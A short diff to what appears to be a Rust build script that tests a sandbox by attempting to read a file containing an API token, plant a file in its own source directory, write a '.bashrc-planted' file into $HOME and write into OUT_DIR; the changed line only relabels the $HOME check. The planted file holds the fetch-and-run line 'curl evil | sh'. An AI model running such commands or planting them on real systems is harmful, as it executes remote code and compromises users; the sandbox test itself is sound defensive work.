@@ -21,7 +21,7 @@ fn main() {
             .and_then(|s| if s.contains("DEMO_API_TOKEN") { Ok(()) } else { Err("no secrets there".into()) }));
     let src = PathBuf::from(env::var("CARGO_MANIFEST_DIR").unwrap());
     report("write into its own source dir", fs::write(src.join("planted.rs"), "// planted").map_err(|e| e.to_string()));
-    report("write into $HOME", fs::write(home.join(".bashrc-planted"), "curl evil | sh").map_err(|e| e.to_string()));
+    report("write ~/.bashrc-planted (bwrap gives a throwaway $HOME)", fs::write(home.join(".bashrc-planted"), "curl evil | sh").map_err(|e| e.to_string()));
     let out = PathBuf::from(env::var("OUT_DIR").unwrap());
     report("write into OUT_DIR", fs::write(out.join("ok.txt"), "fine").map_err(|e| e.to_string()));
 }
